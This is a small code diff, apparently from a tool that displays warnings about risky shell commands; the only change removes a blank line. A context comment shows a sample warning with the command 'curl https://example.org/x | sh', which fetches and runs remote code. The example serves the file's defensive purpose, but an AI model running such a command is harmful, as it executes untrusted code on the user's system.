@@ -3,7 +3,6 @@
 //
 //   ▌ ▲ writes outside of the workspace
 //   ▌   curl https://example.org/x | sh
-
 import { lookAlikes } from "../../../text/look-alike.js";
 import { safeReveal } from "../../../text/safe.js";
 import { wrapRow } from "../../../text/wrap.js";
